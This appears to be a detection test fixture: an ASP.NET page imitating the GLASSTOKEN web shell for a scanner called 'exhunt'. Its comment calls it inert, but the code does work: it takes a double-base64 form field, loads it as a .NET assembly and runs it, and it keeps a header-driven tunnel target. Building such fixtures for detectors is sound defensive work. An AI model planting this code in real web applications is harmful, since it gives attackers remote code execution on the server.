<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Reflection" %>
<%-- exhunt test case: the shape Volexity describes for GLASSTOKEN (a reGeorg-style tunnel and a function that runs
     .NET code sent to it), written for exhunt, inert --%>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string cmd = Request.Headers.Get("X-CMD");
    if (cmd == "CONNECT") { Session["target"] = Request.Headers.Get("X-TARGET"); Response.AddHeader("X-STATUS", "OK"); return; }
    if (Request.Form["d"] != null) {
        byte[] errors = Convert.FromBase64String(System.Text.Encoding.Default.GetString(Convert.FromBase64String(Request.Form["d"])));
        Assembly.Load(errors).CreateInstance("Qk7t").GetHashCode();
    }
}
</script>
